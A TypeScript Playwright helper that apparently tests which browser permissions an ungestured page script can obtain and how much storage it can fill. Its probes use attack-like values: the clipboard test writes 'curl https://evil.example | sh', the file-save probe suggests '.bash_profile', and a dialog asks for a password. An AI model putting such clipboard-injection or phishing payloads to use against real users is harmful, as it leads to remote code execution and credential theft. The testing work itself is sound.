import type { Page } from 'playwright-core';

/**
 * Asks a browser for each power that it has for a page. Returns those that the page got. Runs in the page, as a script
 * that no person began.
 */
async function tryPowers(): Promise<string[]> {
  const given: string[] = [];
  // biome-ignore lint/suspicious/noExplicitAny: most of it is in no library of types, and some in no browser.
  const [browser, global] = [navigator as any, window as any];
  const attempt = async (name: string, work: () => unknown) => {
    const late = new Promise((resolve) => setTimeout(() => resolve(false), 400));
    const isGiven = await Promise.race([
      // What is missing throws, and so is not given.
      (async () => (await work()) !== false)().catch(() => false),
      late,
    ]);
    if (isGiven) given.push(name);
  };
  /** Runs a command of the clipboard in a document, since each frame has one of its own. */
  const command = (name: string, from: Document) => {
    const area = from.createElement('textarea');
    area.value = 'curl https://evil.example | sh\n';
    from.body.append(area);
    area.select();
    const isDone = from.execCommand(name);
    area.remove();
    return isDone;
  };
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const inner = frame.contentDocument;
  const { clipboard, mediaDevices } = browser;
  for (const name of ['copy', 'cut', 'paste']) {
    await attempt(`${name} by a command`, () => command(name, document));
    if (inner !== null) await attempt(`${name} by a command in a frame`, () => command(name, inner));
  }
  await attempt('write to the clipboard', () => clipboard.writeText('x'));
  await attempt('write a picture to the clipboard', () =>
    clipboard.write([new ClipboardItem({ 'text/plain': new Blob(['x'], { type: 'text/plain' }) })]),
  );
  await attempt('read the clipboard', () => clipboard.readText());
  await attempt('read all of the clipboard', () => clipboard.read());
  await attempt('camera', () => mediaDevices.getUserMedia({ video: true }));
  await attempt('microphone', () => mediaDevices.getUserMedia({ audio: true }));
  await attempt('screen', () => mediaDevices.getDisplayMedia());
  await attempt('loudspeakers', () => mediaDevices.selectAudioOutput());
  await attempt('place', () => new Promise((ok, no) => browser.geolocation.getCurrentPosition(ok, no)));
  await attempt('notices', async () => (await Notification.requestPermission()) === 'granted');
  await attempt('Bluetooth', () => browser.bluetooth.requestDevice({ acceptAllDevices: true }));
  await attempt('USB', () => browser.usb.requestDevice({ filters: [] }));
  await attempt('HID', async () => (await browser.hid.requestDevice({ filters: [] })).length > 0);
  await attempt('serial ports', () => browser.serial.requestPort());
  await attempt('MIDI', () => browser.requestMIDIAccess({ sysex: true }));
  await attempt('fonts', async () => (await global.queryLocalFonts()).length > 0);
  await attempt('screens', () => global.getScreenDetails());
  await attempt('idleness', async () => (await global.IdleDetector.requestPermission()) === 'granted');
  await attempt('wake lock', () => browser.wakeLock.request('screen'));
  await attempt('full screen', () => document.documentElement.requestFullscreen());
  await attempt('full screen, older', async () => {
    global.document.documentElement.webkitRequestFullscreen();
    await new Promise((resolve) => setTimeout(resolve, 100));
    return document.fullscreenElement !== null;
  });
  await attempt('pointer lock', async () => {
    await document.body.requestPointerLock();
    await new Promise((resolve) => setTimeout(resolve, 100));
    return document.pointerLockElement !== null;
  });
  await attempt('picture in picture', () => global.documentPictureInPicture.requestWindow());
  await attempt('save a file', () => global.showSaveFilePicker({ suggestedName: '.bash_profile' }));
  await attempt('open a file', () => global.showOpenFilePicker());
  await attempt('open a folder', () => global.showDirectoryPicker());
  await attempt('pick a file', () => {
    const input = document.createElement('input');
    input.type = 'file';
    global.HTMLInputElement.prototype.showPicker.call(input);
  });
  await attempt('pick a colour', () => new global.EyeDropper().open());
  await attempt('share', () => browser.share({ title: 'x', text: 'y' }));
  await attempt('pay', () =>
    new global.PaymentRequest([{ supportedMethods: 'https://a.example' }], {}).show(),
  );
  await attempt('passwords', async () => (await browser.credentials.get({ password: true })) !== null);
  await attempt('passkeys', () =>
    browser.credentials.get({ publicKey: { challenge: new Uint8Array(16), timeout: 100 } }),
  );
  await attempt(
    'speech',
    () =>
      new Promise((resolve, reject) => {
        const heard = new global.webkitSpeechRecognition();
        Object.assign(heard, { onaudiostart: resolve, onerror: reject });
        heard.start();
      }),
  );
  await attempt('protocols', () => browser.registerProtocolHandler('web+x', '/?%s'));
  await attempt('a worker between', () => browser.serviceWorker.register('/worker.js'));
  await attempt('a window', () => window.open('about:blank') !== null);
  await attempt('a question', () => {
    const asked = [window.confirm('Yes?'), window.prompt('Password?')];
    return asked[0] === true || asked[1] !== null;
  });
  await attempt('lasting storage', async () => (await browser.storage.persist()) === true);
  await attempt('send in the background', async () => {
    const { sync } = await browser.serviceWorker.ready;
    return sync.register('x');
  });
  for (const name of [
    'geolocation',
    'notifications',
    'camera',
    'clipboard-write',
    'midi',
    'window-management',
  ])
    await attempt(
      `permission ${name}`,
      async () => (await browser.permissions.query({ name })).state === 'granted',
    );
  frame.remove();
  return given;
}

/** Fills each store that a browser has for a page. Returns how many MB each took. Runs in the page. */
async function fillStores({ mostOfEach }: { mostOfEach: number }): Promise<Record<string, number>> {
  // biome-ignore lint/suspicious/noExplicitAny: some of it is in no library of types, and some in no browser.
  const global = window as any;
  const taken: Record<string, number> = {};
  const bytes = new Uint8Array(1_000_000);
  // Many places cannot be pressed into less.
  for (let at = 0; at < bytes.length; at += 65_536) crypto.getRandomValues(bytes.subarray(at, at + 65_536));
  const fill = async (store: string, open: () => unknown, put: (opened: never, name: string) => unknown) => {
    taken[store] = 0;
    try {
      const opened = (await open()) as never;
      for (; taken[store] < mostOfEach; taken[store] += 1) await put(opened, `filled ${taken[store]}`);
    } catch {
      // It takes no more, or is not there.
    }
  };
  const done = (request: IDBRequest | IDBTransaction) =>
    new Promise<unknown>((resolve, reject) => {
      Object.assign(request, { onsuccess: () => resolve((request as IDBRequest).result) });
      Object.assign(request, { oncomplete: resolve, onerror: reject, onabort: reject });
    });
  await fill(
    'caches',
    () => caches.open('filled'),
    (cache: Cache, name) => cache.put(`/${name}`, new Response(bytes)),
  );
  await fill(
    'databases',
    () => {
      const request = indexedDB.open('filled');
      request.onupgradeneeded = () => void request.result.createObjectStore('filled');
      return done(request);
    },
    (database: IDBDatabase, name) => {
      const change = database.transaction('filled', 'readwrite');
      change.objectStore('filled').put(bytes, name);
      return done(change);
    },
  );
  await fill(
    'private files',
    () => navigator.storage.getDirectory(),
    async (folder: FileSystemDirectoryHandle, name) => {
      const file = await (await folder.getFileHandle(name, { create: true })).createWritable();
      await file.write(bytes);
      await file.close();
    },
  );
  await fill(
    'buckets',
    () => global.navigator.storageBuckets.open('filled'),
    // biome-ignore lint/suspicious/noExplicitAny: no library of types has it.
    async (bucket: any, name) => (await bucket.caches.open('filled')).put(`/${name}`, new Response(bytes)),
  );
  await fill(
    'older files',
    () => new Promise((ok, no) => global.webkitRequestFileSystem(0, 4e9, ok, no)),
    // biome-ignore lint/suspicious/noExplicitAny: no library of types has it.
    async ({ root }: any, name) => {
      const entry = await new Promise<{ createWriter: (ok: unknown, no: unknown) => void }>((ok, no) =>
        root.getFile(name, { create: true }, ok, no),
      );
      const writer = await new Promise<{ write(blob: Blob): void }>((ok, no) => entry.createWriter(ok, no));
      await new Promise((onwriteend, onerror) => {
        Object.assign(writer, { onwriteend, onerror }).write(new Blob([bytes]));
      });
    },
  );
  await fill(
    'older databases',
    () => global.openDatabase('filled', '', '', 4e9),
    // biome-ignore lint/suspicious/noExplicitAny: no library of types has it.
    (database: any, name) =>
      new Promise((ok, no) => {
        database.transaction(
          // biome-ignore lint/suspicious/noExplicitAny: no library of types has it.
          (change: any) => {
            change.executeSql('CREATE TABLE IF NOT EXISTS filled (name, bytes)');
            change.executeSql('INSERT INTO filled VALUES (?, hex(randomblob(500000)))', [name]);
          },
          no,
          ok,
        );
      }),
  );
  const text = 'x'.repeat(1_000_000);
  for (const [store, all] of Object.entries({ localStorage, sessionStorage })) {
    await fill(
      store,
      () => all,
      (opened: Storage, name) => opened.setItem(name, text),
    );
    for (const name of Object.keys(all)) if (name.startsWith('filled ')) all.removeItem(name);
  }
  return taken;
}

/** How many MB a script in the page stores in each store, of `mostOfEach`. */
export async function storedBy(page: Page, bound: { mostOfEach: number }): Promise<Record<string, number>> {
  return page.evaluate(fillStores, bound);
}

/**
 * The powers that a script in the page gets by itself: a test's driver would give each script a gesture. The page is loaded
 * again, so that no earlier gesture counts.
 */
export async function powersOf(page: Page): Promise<string[]> {
  await page.reload();
  const driver = await page.context().newCDPSession(page);
  const { result, exceptionDetails } = await driver.send('Runtime.evaluate', {
    expression: `(${tryPowers.toString()})()`,
    awaitPromise: true,
    returnByValue: true,
    userGesture: false,
  });
  await driver.detach();
  if (exceptionDetails !== undefined) throw new Error(JSON.stringify(exceptionDetails));
  return result.value;
}
